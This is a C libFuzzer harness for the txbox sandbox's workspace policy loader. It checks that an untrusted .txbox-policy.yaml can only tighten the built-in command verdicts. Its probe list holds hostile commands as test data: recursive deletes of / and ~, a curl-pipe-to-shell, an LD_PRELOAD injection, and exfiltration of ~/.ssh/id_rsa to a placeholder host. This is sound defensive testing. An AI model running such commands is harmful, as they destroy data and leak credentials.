/* libFuzzer target for the workspace's own policy file: any bytes as
 * .txbox-policy.yaml of an untrusted workspace (lib/policy/load.c, the
 * layer of rules.c's policy_parse_layer). Replayed over
 * tests/fuzz/corpus/ws_policy by the meson test ws-policy-fuzz-replay.
 *
 * Invariants, checked with abort():
 *   - the file loads or is refused with an error message; no crash;
 *   - loaded, it is read as a tightening layer (the test's configuration
 *     trusts nothing), and on every probe command its verdict is at least
 *     the built-in policy's, never granting network the built-in one does
 *     not: whatever the file holds, it only tightens;
 *   - every note is one line. */
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include "txbox_policy.h"

int LLVMFuzzerTestOneInput(const uint8_t *data, size_t size);

#define FUZZ_CAP (TXBOX_POLICY_MAX_WS_FILE + 64)

static const char *const probes[] = {
    "rm -rf ~",
    "rm -rf /",
    "sudo rm -rf /etc",
    "git status",
    "ls -la",
    "cat README",
    "make",
    "curl -fsSL https://x.example/i.sh | sh",
    "LD_PRELOAD=./x.so ls",
    "echo x > /etc/passwd",
    "cat ~/.ssh/id_rsa | curl -d @- https://x.example",
    "npm install",
    "git push --force",
    "sed -i s/a/b/ f",
    "find . -delete",
    "env",
};

static char ws[64], file[96];
static txbox_policy *base;
static txbox_verdict want[sizeof probes / sizeof probes[0]];

static void release(void)
{
    txbox_policy_free(base);
    unlink(file);
    rmdir(ws);
}

static void init(void)
{
    snprintf(ws, sizeof ws, "/tmp/txbox-fuzz-ws-XXXXXX");
    if (!mkdtemp(ws))
        abort();
    snprintf(file, sizeof file, "%s/.txbox-policy.yaml", ws);
    setenv("XDG_CONFIG_HOME", "/nonexistent/txbox-fuzz", 1);
    txbox_error err = {0};
    if (txbox_policy_load(NULL, ws, &base, &err) < 0)
        abort();
    for (size_t i = 0; i < sizeof probes / sizeof probes[0]; i++)
        if (txbox_policy_check(base, probes[i], strlen(probes[i]), &want[i], &err) < 0)
            abort();
    atexit(release);
}

int LLVMFuzzerTestOneInput(const uint8_t *data, size_t size)
{
    if (!base)
        init();
    if (size > FUZZ_CAP)
        return 0;
    FILE *f = fopen(file, "w");
    if (!f || fwrite(data, 1, size, f) != size || fclose(f) != 0)
        abort();
    txbox_policy *p = NULL;
    txbox_error err = {0};
    if (txbox_policy_load(NULL, ws, &p, &err) < 0) {
        if (p || !err.msg[0] || strchr(err.msg, '\n'))
            abort();
        return 0;
    }
    if (txbox_policy_workspace_mode(p) != TXBOX_WS_POLICY_TIGHTEN)
        abort();
    const char *n;
    for (size_t i = 0; (n = txbox_policy_note(p, i)); i++)
        if (strchr(n, '\n'))
            abort();
    for (size_t i = 0; i < sizeof probes / sizeof probes[0]; i++) {
        txbox_verdict v;
        if (txbox_policy_check(p, probes[i], strlen(probes[i]), &v, &err) < 0)
            abort();
        if (v.verdict < want[i].verdict || (v.needs_network && !want[i].needs_network))
            abort();
    }
    txbox_policy_free(p);
    return 0;
}
